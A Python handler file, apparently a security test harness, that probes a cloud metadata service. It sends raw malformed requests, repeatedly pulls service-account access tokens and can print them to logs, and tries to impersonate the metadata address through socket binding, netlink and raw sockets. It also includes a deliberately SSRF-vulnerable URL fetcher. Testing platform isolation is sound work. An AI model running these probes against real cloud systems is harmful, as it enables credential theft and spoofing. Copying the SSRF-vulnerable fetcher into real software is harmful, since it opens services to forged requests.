# Sends invalid requests to the metadata service, as raw bytes, because libraries would correct them.
import concurrent.futures
import errno
import socket
import struct
import subprocess
import sys
import urllib.error
import urllib.request

import requests as http

from attempt import attempts

BASE = "http://169.254.169.254"
TOKEN = BASE + "/computeMetadata/v1/instance/service-accounts/default/token"


def send(request):
    text = b""
    try:
        place = (request.get("host", "169.254.169.254"), request.get("port", 80))
        with socket.create_connection(place, 3) as client:
            client.sendall(request["raw"].encode("latin1"))
            while True:
                chunk = client.recv(1 << 16)
                if not chunk:
                    break
                text += chunk
    except OSError as error:
        text = text or errno.errorcode.get(error.errno, str(error)).encode()
    return text.decode("latin1")


def requests(event, context):
    return [send(request) for request in event["requests"]]


def ask(session=http):
    response = session.get(TOKEN, headers={"Metadata-Flavor": "Google"}, timeout=10)
    return response.json()["access_token"] if response.status_code == 200 else response.status_code


def hammer(event, context):
    seen = {}
    session = http.Session()
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        for token in pool.map(lambda _: ask(session), range(event["times"])):
            seen[str(token)] = seen.get(str(token), 0) + 1
    return seen


def listen(place, *options):
    with socket.socket() as server:
        for option in options:
            server.setsockopt(socket.SOL_SOCKET, option, 1)
        server.bind(place)
        server.listen()
        return "bound"


def add_address():
    # RTM_NEWADDR with IFA_LOCAL 10.9.8.7 on interface 1, without a tool.
    body = struct.pack("BBBBi", socket.AF_INET, 32, 0, 0, 1) + struct.pack("HH4B", 8, 2, 10, 9, 8, 7)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.sendto(struct.pack("IHHII", 16 + len(body), 20, 0x605, 1, 0) + body, (0, 0))
        code = -struct.unpack_from("i", netlink.recv(4096), 16)[0]
        if code:
            raise OSError(code, "netlink")


def tool(*argv):
    return subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=True).stdout.decode()


def spoof(event, context):
    metadata = ("169.254.169.254", 80)
    return attempts(
        {
            "bind the address": lambda: listen(metadata),
            "bind it again": lambda: listen(metadata, socket.SO_REUSEADDR),
            "share the port": lambda: listen(metadata, socket.SO_REUSEADDR, socket.SO_REUSEPORT),
            "take every address": lambda: listen(("0.0.0.0", 80), socket.SO_REUSEADDR),
            "add an address": add_address,
            "forge packets": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).fileno(),
            "forge frames": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).fileno(),
            "remove the address": lambda: tool("ip", "addr", "del", "169.254.169.254/32", "dev", "lo"),
            "add a route": lambda: tool("ip", "route", "add", "blackhole", "169.254.169.254"),
        }
    )


def both(event, context):
    # The handler's token, next to the one of the service.
    told = {"context": (context.token or {}).get("access_token"), "service": ask()}
    if event.get("print"):
        print(told["service"])
        print(told["service"], file=sys.stderr)
    return told


def fetchFor(event, context):
    # The victim of a forged request: fetches an address from untrusted input, as a preview or a webhook would.
    try:
        with urllib.request.urlopen(event["url"], timeout=5) as response:
            return {"status": response.status, "text": response.read().decode()}
    except urllib.error.HTTPError as error:
        return {"status": error.code, "text": error.read().decode()}


def act(event, context):
    return globals()[event["part"]](event, context)
